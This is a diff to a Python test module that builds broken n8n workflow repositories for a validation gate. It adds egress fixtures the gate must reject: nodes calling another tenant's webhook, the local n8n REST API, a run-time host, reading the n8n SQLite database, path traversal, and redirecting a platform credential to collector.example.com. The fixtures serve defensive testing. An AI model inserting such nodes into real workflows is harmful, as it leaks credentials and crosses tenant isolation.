@@ -9,12 +9,15 @@ another.
 
 from __future__ import annotations
 
+import json
 import shutil
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 from tests.load.test_broken_repos import Case, both, edit, remove, rename, write
+from tests.validate.test_rules import CASES as RULE_FIXTURES
 
 UC = "use-cases"
 DIGEST = f"{UC}/daily-digest"
@@ -38,8 +41,8 @@ class GateCase:
     """A broken repository: `case` on a branch of the good commit.
 
     `tag` puts a release tag `<use-case>@<version>`: on the case's commit, or with
-    `tag_only` on a commit of its own while the branch stays good. `daemon` cases
-    also run a daemon on the branch.
+    `tag_only` on a commit of its own while the branch stays good, or with
+    `tag_blob` on a blob. `daemon` cases also run a daemon on the branch.
     """
 
     case: Case
@@ -47,6 +50,7 @@ class GateCase:
     tag: str | None = None
     tag_only: bool = False
     daemon: bool = False
+    tag_blob: bool = False
 
     @property
     def name(self) -> str:
@@ -55,9 +59,10 @@ class GateCase:
 
 def c(name: str, breaks: Callable[[Path], None], file: str, layer: str, *,
       field: str | None = None, needle: str | None = None, says: str | None = None,
-      tag: str | None = None, tag_only: bool = False, daemon: bool = False) -> GateCase:
+      tag: str | None = None, tag_only: bool = False, daemon: bool = False,
+      tag_blob: bool = False) -> GateCase:
     return GateCase(Case(name, breaks, file, field=field, needle=needle, says=says),
-                    layer, tag=tag, tag_only=tag_only, daemon=daemon)
+                    layer, tag=tag, tag_only=tag_only, daemon=daemon, tag_blob=tag_blob)
 
 
 def _copy_folder(old: str, new: str) -> Callable[[Path], None]:
@@ -65,6 +70,28 @@ def _copy_folder(old: str, new: str) -> Callable[[Path], None]:
         shutil.copytree(root / old, root / new)
 
     return apply
+
+
+def _add_node(file: str, node: dict[str, Any]) -> Callable[[Path], None]:
+    def apply(root: Path) -> None:
+        content = json.loads((root / file).read_text(encoding="utf-8"))
+        content["nodes"].append({"id": "0b9d5a7e-0000-4000-8000-00000000f001",
+                                 "typeVersion": 1, "position": [440, 0], **node})
+        (root / file).write_text(json.dumps(content, indent=2) + "\n", encoding="utf-8")
+
+    return apply
+
+
+def _http(url: str) -> Callable[[Path], None]:
+    return _add_node(ECHO_WF, {"name": "Peek", "type": "n8n-nodes-base.httpRequest",
+                               "typeVersion": 4.2, "retryOnFail": True,
+                               "parameters": {"url": url, "options": {}}})
+
+
+def _rule(rule_id: str, file: str) -> GateCase:
+    """The failing fixture of a `must` rule (tests/validate/test_rules.py), live."""
+    return c(f"rule-{rule_id.lower()}", RULE_FIXTURES[rule_id], file, "rules",
+             says=f"({rule_id}")
 
 
 def _nothing(root: Path) -> None:
@@ -249,4 +276,51 @@ TENANTS = [
       needle="[dave, alice]"),
 ]
 
-CASES = GRAPH + PLATFORM + CONTENT + FOLDER + LOAD + HISTORY + TENANTS
+# Ways out of the installation: n8n itself, its host, another installation's webhook.
+ERIN_HOOK = "inbox-triage/inbox-triage-erin/triage"
+EGRESS = [
+    c("egress-localhost-webhook-of-other-tenant", _http(f"http://127.0.0.1:5678/webhook/{ERIN_HOOK}"),
+      ECHO_WF, "tenant", needle="127.0.0.1:5678", daemon=True),
+    c("egress-public-webhook-of-other-tenant",
+      _http("https://n8n.example.com/webhook/lead-enrichment/lead-enrichment-globex/enrich"),
+      ECHO_WF, "tenant", needle="n8n.example.com"),
+    c("egress-host-computed-at-run-time", _http("={{ $json.body.target }}/x"),
+      ECHO_WF, "tenant", needle="$json.body.target"),
+    c("egress-code-node-calls-n8n-api",
+      edit(ECHO_WF, "const body = $input.first().json.body;",
+           "await this.helpers.httpRequest({url: 'http://[::1]:5678/rest/workflows'});"),
+      ECHO_WF, "tenant", needle="[::1]:5678"),
+    c("egress-read-host-file", _add_node(ECHO_WF, {
+        "name": "Read", "type": "n8n-nodes-base.readWriteFile",
+        "parameters": {"fileSelector": "/home/node/.n8n/database.sqlite"}}),
+      ECHO_WF, "tenant", field="/nodes/2"),
+    c("egress-n8n-api-node", _add_node(ECHO_WF, {
+        "name": "Admin", "type": "n8n-nodes-base.n8n",
+        "parameters": {"resource": "workflow", "operation": "getAll"}}),
+      ECHO_WF, "tenant", field="/nodes/2"),
+    c("tenant-agent-tool-runs-inline-workflow", _add_node(ECHO_WF, {
+        "name": "Tool", "type": "@n8n/n8n-nodes-langchain.toolWorkflow", "typeVersion": 2.2,
+        "parameters": {"source": "parameter", "workflowJson": "{\"nodes\": []}"}}),
+      ECHO_WF, "tenant", field="/nodes/2/parameters/workflowId"),
+    c("tenant-path-dot-segments-into-other-space",
+      edit(ECHO_WF, ECHO_PATH, f'"path": "{PROCESS_ID}/{INSTANCE_UID}/../../inbox-triage/'
+                               'inbox-triage-erin/echo"'),
+      ECHO_WF, "tenant", needle="/../../"),
+    c("egress-platform-credential-to-tenant-server",
+      edit(SUMMARIZE_WF, '"maxTokensToSample": 300', '"maxTokensToSample": 300,\n'
+           '            "baseURL": "https://collector.example.com/v1"'),
+      SUMMARIZE_WF, "tenant", needle="collector.example.com"),
+    c("history-tag-on-a-blob", _nothing, f"{ECHO}/version.json", "history",
+      says="not a commit", tag="echo@1.0.0", tag_blob=True),
+]
+
+# The `must` rules no other case fails (tests/gate/test_every_must_rule.py checks).
+RULES = [_rule(rule_id, file) for rule_id, file in [
+    ("CRED-ID-NAME", DIGEST_WF), ("CRED-ONE-SCOPE", DIGEST_WF),
+    ("PLATFORM-SCHEDULE-MANUAL", DIGEST_WF), ("PLATFORM-SUBWORKFLOW-INPUTS", SUMMARIZE_WF),
+    ("REF-VISIBILITY", f"{LEAD}/use-case.yaml"), ("SCHEDULE-TIMEZONE", DIGEST_WF),
+    ("SCHEMA-TYPES", SCORE_WF), ("SUBWKFL-INPUT-MAPPING", MAIN_WF), ("WEBHOOK-AUTH", TRIAGE_WF),
+    ("CODIKA-NODES", MAIN_WF), ("CODIKA-STRUCTURE", MAIN_WF),
+]]
+
+CASES = GRAPH + PLATFORM + CONTENT + FOLDER + LOAD + HISTORY + TENANTS + EGRESS + RULES
